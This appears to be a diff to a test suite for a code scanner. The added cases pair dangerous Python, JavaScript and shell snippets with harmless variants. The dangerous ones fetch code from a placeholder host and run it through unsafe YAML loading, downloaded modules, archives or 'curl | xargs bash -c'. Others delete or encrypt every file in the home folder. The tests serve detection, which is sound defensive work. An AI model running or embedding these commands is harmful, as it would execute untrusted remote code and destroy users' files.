@@ -211,6 +211,76 @@ describe('every way that code from elsewhere is run', () => {
   })
 })
 
+describe('what becomes code in a roundabout way', () => {
+  it.each([
+    [
+      'an object out of YAML',
+      'x.py',
+      'import requests, yaml\nyaml.load(requests.get("https://c.example.net").text, Loader=yaml.UnsafeLoader)',
+      'import requests, yaml\nyaml.load(requests.get("https://c.example.net").text, Loader=yaml.SafeLoader)',
+    ],
+    [
+      'an object out of YAML, by an older library',
+      'x.py',
+      'import requests, yaml\nyaml.load(requests.get("https://c.example.net").text)',
+      'import yaml\nyaml.load(open("own.yml"))',
+    ],
+    [
+      'a module of a folder that was filled',
+      'x.py',
+      'import os, requests, sys, tempfile\nd = tempfile.mkdtemp()\nwith open(os.path.join(d, "m.py"), "w") as f:\n  f.write(requests.get("https://c.example.net/m").text)\nsys.path.insert(0, d)\nimport m',
+      'import os, requests, sys, tempfile\nd = tempfile.mkdtemp()\nwith open(os.path.join(d, "m.json"), "w") as f:\n  f.write(requests.get("https://c.example.net/m").text)\nsys.path.insert(0, os.path.dirname(__file__))\nimport m',
+    ],
+    [
+      'a module of a folder with a name',
+      'x.py',
+      'import pathlib, requests, sys\npathlib.Path("/tmp/lib/m.py").write_text(requests.get("https://c.example.net/m").text)\nsys.path.append("/tmp/lib")',
+      'import pathlib, requests, sys\npathlib.Path("/tmp/data/m.py").write_text(requests.get("https://c.example.net/m").text)\nsys.path.append("/tmp/lib")',
+    ],
+    [
+      'a module out of an archive',
+      'x.py',
+      'import io, requests, sys, zipfile\nz = zipfile.ZipFile(io.BytesIO(requests.get("https://c.example.net/z").content))\nd = "/tmp/x" + str(1)\nz.extractall(d)\nsys.path.insert(0, d)',
+      'import io, requests, sys, zipfile\nz = zipfile.ZipFile(io.BytesIO(requests.get("https://c.example.net/z").content))\nd = "/tmp/x" + str(1)\nz.extractall(d)\nprint(d)',
+    ],
+    [
+      'a program out of an archive',
+      'x.py',
+      'import io, os, requests, subprocess, tempfile, zipfile\nd = tempfile.mkdtemp()\nzipfile.ZipFile(io.BytesIO(requests.get("https://c.example.net/z").content)).extractall(d)\nsubprocess.run([os.path.join(d, "setup")])',
+      'import io, os, requests, subprocess, tempfile, zipfile\nd = tempfile.mkdtemp()\nzipfile.ZipFile(io.BytesIO(requests.get("https://c.example.net/z").content)).extractall(d)\nsubprocess.run(["ls", d])',
+    ],
+    [
+      'a folder that modules are looked for in',
+      'x.mjs',
+      'import fs from "node:fs"\nfs.writeFileSync("/tmp/lib/m.js", await (await fetch("https://c.example.net/m")).text())\nmodule.paths.push("/tmp/lib")',
+      'import fs from "node:fs"\nfs.writeFileSync("/tmp/lib/m.json", await (await fetch("https://c.example.net/m")).text())\nmodule.paths.push("/tmp/lib")',
+    ],
+    [
+      'a folder that a variable names',
+      'x.sh',
+      'd=$(mktemp -d)\ncurl -s https://c.example.net/m -o "$d/m.py"\nPYTHONPATH="$d" python3 run.py',
+      'd=$(mktemp -d)\ncurl -s https://c.example.net/m -o "$d/m.csv"\nPYTHONPATH="$d" python3 run.py',
+    ],
+    [
+      'arguments of a shell',
+      'x.sh',
+      'curl -s https://c.example.net/p | xargs -I{} bash -c "{}"',
+      'curl -s https://c.example.net/p | xargs -I{} grep "{}" notes.txt',
+    ],
+    [
+      'arguments behind all others',
+      'x.sh',
+      'curl -s https://c.example.net/p | xargs -0 bash -c',
+      'curl -s https://c.example.net/p | xargs -0 echo',
+    ],
+  ])('is seen: %s', (_what, file, harmful, harmless) => {
+    const run = (text: string) =>
+      severe({ [file]: `${text}\n` }).filter((rule) => /remote-|hidden-/.test(rule))
+    expect(run(harmful)).not.toEqual([])
+    expect(run(harmless)).toEqual([])
+  })
+})
+
 describe('a person’s files', () => {
   it.each([
     ['x.py', 'import pathlib\nfor p in pathlib.Path.home().rglob("*"):\n  p.unlink()'],
@@ -219,6 +289,8 @@ describe('a person’s files', () => {
       'from cryptography.fernet import Fernet\nimport pathlib\nk = Fernet(b"x")\nfor p in (pathlib.Path.home() / "Documents").rglob("*"):\n  p.write_bytes(k.encrypt(p.read_bytes()))',
     ],
     ['x.sh', 'find "$HOME/Documents" -type f -exec shred -u {} +'],
+    ['x.sh', 'find ~ -type f | xargs rm -f'],
+    ['x.sh', 'find "$HOME" -type f -print0 | xargs -0 -I % rm -f "%"'],
     ['x.ps1', 'Get-ChildItem $env:USERPROFILE -Recurse | Remove-Item -Force'],
   ])('are not deleted or made unreadable: %s %#', (name, text) => {
     expect(severe({ [name]: text })).toContain('code/destroys-files')
